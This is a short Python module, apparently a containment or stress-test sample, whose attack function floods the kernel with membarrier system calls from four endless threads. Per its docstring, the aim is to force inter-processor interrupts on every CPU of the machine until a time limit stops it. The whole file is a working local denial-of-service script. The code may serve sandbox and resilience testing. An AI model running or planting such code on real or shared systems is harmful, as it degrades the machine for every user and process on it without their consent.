"""Has the kernel interrupt every processor of the machine, as often as it can, from four threads.

Contained: it may, until the time limit; the next call is on time.
"""

import ctypes
import platform
import threading

NUMBER = {"x86_64": 324, "aarch64": 283}.get(platform.machine())
CALL = ctypes.CDLL(None).syscall


def interrupt(command):
    while True:
        CALL(NUMBER, command, 0, 0)


def attack():
    if NUMBER is None:
        return "held: the number is not known here"
    for command in (1, 2, 8):
        threading.Thread(target=interrupt, args=(command,), daemon=True).start()
    return interrupt(2)
